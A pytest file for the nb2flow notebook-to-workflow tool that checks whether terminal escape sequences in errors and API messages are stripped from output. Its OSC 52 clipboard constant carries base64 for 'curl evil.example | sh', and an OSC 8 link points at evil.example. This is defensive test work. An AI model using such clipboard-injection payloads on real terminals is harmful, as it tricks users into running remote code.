"""Safe to share: many users in one namespace and on one shared folder (every pod uid 1000).

What nb2flow prints from outside text cannot drive the terminal; nothing a neighbour plants in a shared
folder is loaded or executed as you (see also test_in_pod.py for other users' workflows and schedules,
test_argo_manifest.py and test_replay.py for credentials and the steps' token).
"""

import os

from helpers import nb2flow, only_run_dir
from nbutil import cell, write

OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"


def test_terminal_commands_in_an_error_are_not_printed(tmp_path):
    write(tmp_path / "t.ipynb", cell("x = 1", "step:a"),
          cell(f"raise ValueError({OSC_CLIPBOARD + 'boom ' + OSC_LINK + ' bell' + chr(7)!r})", "step:b"))
    r = nb2flow("run", "t.ipynb", "--no-progress", cwd=tmp_path)
    assert r.returncode == 1
    for out in (r.stderr, nb2flow("status", only_run_dir(tmp_path).name, cwd=tmp_path).stdout):
        assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert "ValueError: boom click me bell\\x07" in r.stderr


def test_terminal_commands_in_an_api_servers_message_are_not_printed(tmp_path):
    from kubeserver import FakeKube

    from helpers import run_in_process

    with FakeKube() as kube:
        config = kube.kubeconfig(tmp_path / "kubeconfig")
        kube.fault("GET", r"/workflows/x$", (500, "etcd " + OSC_CLIPBOARD + "down"), times=100)
        (tmp_path / ".config" / "nb2flow").mkdir(parents=True)
        (tmp_path / ".config" / "nb2flow" / "config.yaml").write_text("api_retry_for: 0.5\n")
        r = run_in_process(["logs", "x", "-n", "jhub"], cwd=tmp_path, env={"KUBECONFIG": config, "HOME": str(tmp_path),
                                                                         "KUBERNETES_SERVICE_HOST": None})
    assert r.returncode == 2
    assert "\x1b" not in r.stderr and "etcd down" in r.stderr
